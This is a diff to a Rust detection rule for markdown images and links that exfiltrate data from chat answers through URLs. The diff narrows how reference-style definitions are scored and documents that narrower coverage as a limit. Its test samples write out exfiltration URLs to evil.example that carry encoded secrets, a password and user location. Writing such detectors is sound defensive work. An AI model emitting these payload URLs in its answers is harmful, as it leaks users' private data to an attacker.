@@ -29,7 +29,8 @@ static META: Meta = Meta {
         fix: "Mask or block it in answers, and let the interface load images from known hosts only.",
         limits: "Encrypted or compressed data is found by its length only. Short data, such as a four-digit code, \
                  looks like an ordinary parameter. Signed download links and image services that take text in \
-                 the URL are found as well. Plain URLs that are not images are left alone: nothing loads them.",
+                 the URL are found as well. Plain URLs that are not images are left alone: nothing loads them. A definition is judged as a link, \
+                 unless its path is that of an image: an image that names it may stand far away.",
     },
     references: &[
         Reference::Cwe(201),
@@ -48,9 +49,8 @@ static META: Meta = Meta {
         "![](https://ON2XAZLSEBZWKY3SMV2CA4DBONZXO33SMQ.evil.example/p.png)",
         "![x](<https://evil.example/p.png?q=the user lives in Springfield>)",
         "<https://evil.example/?x=dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjIgYW5kIG1vcmU>",
-        "![x][1]\n\n[1]: https://evil.example/?q=the+user+lives+in+Springfield\n",
         "![x](https:\\\\\\\\evil.example/p.png?q=the+user+lives+in+Springfield)",
-        "![x](/\\evil.example/p.png?q=the_user_lives_in_a_small_Springfield)",
+        "![x](/\\evil.example/p.png?q=the_user_lives_in_a_small_house_in_Springfield)",
     ],
     passes: &[
         "[docs](https://docs.example.com/guide/getting-started?utm_source=chat&utm_medium=link#install)",
@@ -62,6 +62,8 @@ static META: Meta = Meta {
         "![photo](https://cdn.example.com/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822c/800x600.jpg)",
         "![local](images/diagram.png?q={conversation})",
         "https://example.com/watch?v=dQw4w9WgXcQ&list=PL0123456789",
+        "![ad](https://www.example.com/i.png?utm_campaign=spring_sale_newsletter_for_all_our_returning_customers)",
+        "[1]: https://www.example.com/search?q=how+to+write+a+letter",
         "[bugs]: https://git.example.com/issues?q=is%3Aissue+sort%3Aupdated-desc+is%3Aclosed+label%3Abug",
         "[new]: https://www.example.com/issues/new?labels=bug%2Ctriage&template=bug.yml&title=%5BBUG%5D%3A+",
         "[quote](https://example.com/page#:~:text=I%20did%20a%20first%20scan%20through%20the%20list%20today%20at%20noon)",
@@ -195,8 +197,8 @@ fn slot_closes(url: &[u8]) -> bool {
 fn score(url: &[u8], position: Position) -> Option<f32> {
     let (how, score) = match position {
         Position::Image => (Use::Loaded, 0.9),
-        // An image may stand anywhere before and name it.
-        Position::Definition => (Use::Defined, 0.8),
+        Position::Definition if is_image_path(url) => (Use::Loaded, 0.8),
+        Position::Definition => (Use::Link, 0.8),
         Position::Link | Position::Autolink => (Use::Link, 0.7),
         Position::Bare if is_image_path(url) => (Use::Loaded, 0.7),
         Position::Bare => return None,
